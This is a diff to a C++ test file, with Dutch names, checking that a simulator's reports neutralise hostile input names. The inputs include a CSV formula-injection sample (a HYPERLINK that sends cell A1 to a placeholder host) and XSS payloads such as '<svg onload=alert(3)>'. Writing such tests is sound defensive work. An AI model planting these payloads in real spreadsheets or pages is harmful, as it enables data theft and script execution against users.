@@ -74,7 +74,8 @@ TEST_CASE("vijandige namen: niets wordt buiten de uitvoermap geschreven", "[vija
     REQUIRE(run_in(root / "in" / "werk", "run ../scenario.toml --deterministisch --stil --uit uit/sub") == 0);
     std::set<std::string> want = {"in/scenario.toml", "in/regels.toml", "in/werk/uitvoer.log"};
     for (const auto& f : kReports) want.insert("in/werk/uit/sub/" + f);
-    want.insert("in/werk/uit/sub/.swvsim.lock");  // the output folder's lock (docs/cli-en-uitvoer.md)
+    want.insert("in/werk/uit/sub/.swvsim.lock");  // the output folder's lock and record (docs/cli-en-uitvoer.md)
+    want.insert("in/werk/uit/sub/.swvsim.set");
     CHECK(listing(root) == want);
   }
   SECTION("zonder --uit: uitvoer/<naam als slug>/") {
@@ -84,6 +85,7 @@ TEST_CASE("vijandige namen: niets wordt buiten de uitvoermap geschreven", "[vija
     CHECK(files.erase("in/regels.toml") == 1);
     CHECK(files.erase("in/werk/uitvoer.log") == 1);
     CHECK(std::erase_if(files, [](const std::string& f) { return fs::path(f).filename() == ".swvsim.lock"; }) == 1);
+    CHECK(std::erase_if(files, [](const std::string& f) { return fs::path(f).filename() == ".swvsim.set"; }) == 1);
     REQUIRE(files.size() == kReports.size());
     for (const auto& f : files) {
       INFO(f);
@@ -111,12 +113,16 @@ TEST_CASE("vijandige namen: HTML en formules komen onschadelijk in de rapporten"
   }
   CHECK(html.find("&lt;script&gt;alert") != std::string::npos);
   CHECK(read_text(root / "uit" / "samenvatting.md").find("<script>") == std::string::npos);
-  // CSV: a cell never starts with a formula character (=, +, -, @) unless it is a number.
-  const std::string csv = read_text(root / "uit" / "resultaat.csv");
-  for (const char* formula : {",=HYPERLINK", ",\"=HYPERLINK", ",@SUM", ",\"@SUM", ",+1+1", ",\"+1+1"}) {
+  // The CSV for Excel: a cell never starts with a formula character (=, +, -, @) unless it is a
+  // number. The CSV for scripts holds the text exactly, quoted as RFC 4180 says (docs/keuzes.md).
+  const std::string csv = read_text(root / "uit" / "resultaat-nl.csv");
+  for (const char* formula : {";=HYPERLINK", ";\"=HYPERLINK", ";@SUM", ";\"@SUM", ";+1+1", ";\"+1+1"}) {
     INFO(formula);
     CHECK(csv.find(formula) == std::string::npos);
     CHECK(csv.find(std::string("\n") + (formula + 1)) == std::string::npos);
   }
+  const std::string plain = read_text(root / "uit" / "resultaat.csv");
+  CHECK(plain.find(",\"=HYPERLINK(\"\"http://voorbeeld.invalid/?\"\"&A1,\"\"klik\"\")\",") != std::string::npos);
+  CHECK(plain.find(",+1+1 <svg onload=alert(3)>,") != std::string::npos);
   fs::remove_all(root);
 }
